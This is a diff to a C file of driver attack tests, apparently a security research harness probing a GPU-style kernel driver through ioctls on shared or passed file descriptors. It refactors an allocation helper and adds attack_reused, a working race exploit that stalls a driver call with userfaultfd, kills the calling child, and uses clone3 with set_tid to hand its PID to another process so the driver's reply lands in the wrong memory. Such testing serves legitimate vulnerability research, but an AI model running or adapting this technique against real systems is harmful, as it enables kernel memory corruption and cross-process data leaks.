@@ -1,19 +1,12 @@
 /* Allocation by others: children, siblings with a passed descriptor, nobody any more. */
 #include "attack.h"
 
+#include <linux/sched.h>
+#include <linux/userfaultfd.h>
+#include <signal.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/user.h>
-
-static unsigned fill (struct bed *bed)
-{
-    unsigned pieces = 0;
-    uint32_t handle;
-
-    while (pieces < 1000 && bed_memory (bed, &handle, GIB) == 0)
-        pieces++;
-    return pieces;
-}
 
 /* Parent and child allocate on one open file. */
 void attack_child (int argc, char **argv)
@@ -26,7 +19,7 @@ void attack_child (int argc, char **argv)
     pid_t child = fork ();
     if (child == 0) {
         bed.next = 0x5e000000;
-        say ("child", fill (&bed));
+        say ("child", bed_fill (&bed));
         _exit (0);
     }
     waitpid (child, NULL, 0);
@@ -48,7 +41,7 @@ void attack_passed (int argc, char **argv)
 
         if (read (pair[1], &got.client, 4) != 4)
             _exit (5);
-        say ("sibling", fill (&got));
+        say ("sibling", bed_fill (&got));
         _exit (0);
     }
     struct bed bed = bed_open ();
@@ -83,7 +76,7 @@ void attack_queued (int argc, char **argv)
     say ("queued", 0);
     hold ();
     struct bed bed = bed_open ();
-    say ("pieces", fill (&bed));
+    say ("pieces", bed_fill (&bed));
     hold ();
     close (bed.file);
     close (bed.node);
@@ -102,7 +95,7 @@ void attack_exec (int argc, char **argv)
     if (argc >= 2) {
         bed.file = atoi (argv[0]);
         bed.client = (uint32_t) strtoul (argv[1], NULL, 0);
-        say ("after", fill (&bed));
+        say ("after", bed_fill (&bed));
         hold ();
         return;
     }
@@ -193,4 +186,53 @@ void attack_victim (int argc, char **argv)
     say ("handle", handle);
     hold ();
     say ("freed", bed_free (&bed, handle));
+}
+
+/* reused: a child makes a call whose struct does not come until the child is dead and another process has its number. Is what
+ * the driver answers written to that one? Without the rights for this trick nobody is. */
+void attack_reused (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    uint8_t *pages = mmap (NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    uint32_t *params = (uint32_t *) (void *) (pages + 4096);
+    struct control call = { bed.client, bed.subdevice, 0x2080014a, 0, (uintptr_t) params, 268, 0xffff };
+    static uint8_t page[4096];
+    struct uffdio_copy copy = { (uintptr_t) pages, (uintptr_t) page, sizeof (page), 0, 0 };
+    int pair[2], faults, status = 0;
+
+    (void) argc, (void) argv;
+    if (pages == MAP_FAILED || socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
+        exit (4);
+    memcpy (page, &call, sizeof (call));
+    pid_t child = fork ();
+    if (child == 0) {
+        struct uffdio_api api = { .api = UFFD_API };
+        struct uffdio_register range = { { (uintptr_t) pages, 4096 }, UFFDIO_REGISTER_MODE_MISSING, 0 };
+
+        faults = (int) syscall (SYS_userfaultfd, O_CLOEXEC);
+        if (faults >= 0 && (ioctl (faults, UFFDIO_API, &api) != 0 || ioctl (faults, UFFDIO_REGISTER, &range) != 0))
+            _exit (4);
+        send_descriptor (pair[0], faults >= 0 ? faults : pair[0]);
+        ioctl (bed.file, REQUEST (0x2a, sizeof (call)), pages);
+        _exit (0);
+    }
+    faults = receive_descriptor (pair[1]);
+    usleep (200000);
+    kill (child, SIGKILL);
+    waitpid (child, NULL, 0);
+    struct clone_args another = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t) &child, .set_tid_size = 1 };
+    pid_t stranger = (pid_t) syscall (SYS_clone3, &another, sizeof (another));
+    if (stranger == 0) {
+        params[1] = 2;
+        if (write (pair[0], "x", 1) != 1)
+            _exit (5);
+        usleep (500000);
+        _exit (params[2] != 0);
+    }
+    if (stranger > 0 && read (pair[1], page + sizeof (call), 1) == 1) {
+        ioctl (faults, UFFDIO_COPY, &copy);
+        waitpid (stranger, &status, 0);
+    }
+    say ("written", (uint64_t) status);
+    hold ();
 }
